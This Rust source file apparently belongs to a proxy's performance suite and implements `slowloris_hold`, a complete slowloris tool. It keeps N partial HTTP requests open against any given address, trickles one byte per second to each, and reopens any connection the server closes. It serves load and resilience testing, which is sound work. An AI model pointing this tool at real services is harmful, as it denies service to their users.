//! `slowloris_hold`: keeps N slowloris connections open against a proxy: each sends a partial
//! request head, then one more header byte every second, and never finishes it. When the proxy
//! closes one (its header timeout), the holder opens a replacement at once, so the proxy faces
//! N of them for as long as the holder runs. `perf/run.sh slowloris` measures the proxy's
//! requests/s under wrk with and without them.
//!
//! Prints `ready N` once N are open, then on standard-input EOF `reopened K` (connections the
//! proxy closed and the holder replaced) and `open M` (still open at the end), and exits.
//!
//! Std only plus `libc` (for `setrlimit`: N connections need N descriptors). One thread,
//! non-blocking sockets swept every 50 ms: a sweep reads whatever came back (a 408, an end of
//! stream, a reset: the connection is over) and, once a second, writes one byte to each.
//!
//! Usage: `slowloris_hold ADDR N [--interval-ms 1000]`

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// The partial head every connection starts with: a request line and one field, no end.
const PARTIAL_HEAD: &[u8] = b"GET /100 HTTP/1.1\r\nHost: perf\r\nX-Slow: ";
const SWEEP: Duration = Duration::from_millis(50);

fn usage() -> String {
    "usage: slowloris_hold ADDR N [--interval-ms 1000]".to_string()
}

fn parse_args(argv: &[String]) -> Result<(SocketAddr, usize, Duration), String> {
    let mut positional = Vec::new();
    let mut interval_ms: u64 = 1000;
    let mut it = argv.iter();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--interval-ms" => {
                interval_ms = it
                    .next()
                    .ok_or_else(usage)?
                    .parse()
                    .map_err(|e| format!("--interval-ms: {e}"))?
            }
            _ if a.starts_with("--") => return Err(format!("unknown flag {a}; {}", usage())),
            _ => positional.push(a.clone()),
        }
    }
    let [addr, count] = positional.as_slice() else {
        return Err(usage());
    };
    let addr = addr
        .parse()
        .map_err(|e| format!("ADDR {addr:?}: {e} (want IP:PORT)"))?;
    let count = count
        .parse()
        .map_err(|e| format!("N {count:?}: {e} (want a connection count)"))?;
    Ok((addr, count, Duration::from_millis(interval_ms.max(1))))
}

/// Raises the soft descriptor limit to at least `want` when the hard limit allows.
fn raise_nofile(want: u64) {
    let mut lim = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit only writes the struct we pass, which lives for the call.
    if unsafe { libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim) } != 0 || lim.rlim_cur >= want {
        return;
    }
    lim.rlim_cur = want.min(lim.rlim_max);
    // SAFETY: setrlimit only reads the struct we pass.
    unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &lim) };
}

/// Opens one slowloris connection: connect, send the partial head, go non-blocking.
fn open_one(addr: SocketAddr) -> io::Result<TcpStream> {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
    s.set_nodelay(true)?;
    s.write_all(PARTIAL_HEAD)?;
    s.set_nonblocking(true)?;
    Ok(s)
}

/// Whether the peer ended the connection (answered, closed or reset it).
fn ended(s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 2048];
    match s.read(&mut buf) {
        // End of stream, or an answer (a 408): either way the proxy is done with it.
        Ok(0) | Ok(1..) => true,
        Err(e) => e.kind() != ErrorKind::WouldBlock,
    }
}

fn run(addr: SocketAddr, n: usize, interval: Duration) -> Result<(), String> {
    raise_nofile(n as u64 + 256);
    let done = Arc::new(AtomicBool::new(false));
    let d2 = done.clone();
    std::thread::spawn(move || {
        let mut sink = Vec::new();
        let _ = io::stdin().read_to_end(&mut sink);
        d2.store(true, Ordering::SeqCst);
    });
    let mut conns = Vec::with_capacity(n);
    for i in 0..n {
        conns.push(open_one(addr).map_err(|e| format!("connection {i}: {e}"))?);
    }
    println!("ready {n}");
    let mut reopened: u64 = 0;
    let mut last_byte = Instant::now();
    while !done.load(Ordering::SeqCst) {
        std::thread::sleep(SWEEP);
        let trickle = last_byte.elapsed() >= interval;
        if trickle {
            last_byte = Instant::now();
        }
        for c in conns.iter_mut() {
            let over = ended(c) || (trickle && c.write(b"x").is_err());
            if over {
                // Replace it; a failed open is tried again on the next sweep.
                if let Ok(fresh) = open_one(addr) {
                    *c = fresh;
                    reopened += 1;
                }
            }
        }
    }
    let open = conns
        .iter_mut()
        .filter_map(|c| (!ended(c)).then_some(()))
        .count();
    println!("reopened {reopened}");
    println!("open {open}");
    Ok(())
}

fn main() -> ExitCode {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    match parse_args(&argv).and_then(|(a, n, i)| run(a, n, i)) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("slowloris_hold: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arguments() {
        let a = |v: &[&str]| parse_args(&v.iter().map(|s| s.to_string()).collect::<Vec<_>>());
        assert_eq!(
            a(&["127.0.0.1:80", "5"]),
            Ok(("127.0.0.1:80".parse().unwrap(), 5, Duration::from_secs(1)))
        );
        assert_eq!(
            a(&["127.0.0.1:80", "5", "--interval-ms", "250"]).map(|r| r.2),
            Ok(Duration::from_millis(250))
        );
        assert!(a(&["nope", "5"]).is_err());
        assert!(a(&["127.0.0.1:80"]).is_err());
        assert!(a(&["127.0.0.1:80", "5", "--bogus"]).is_err());
    }
}
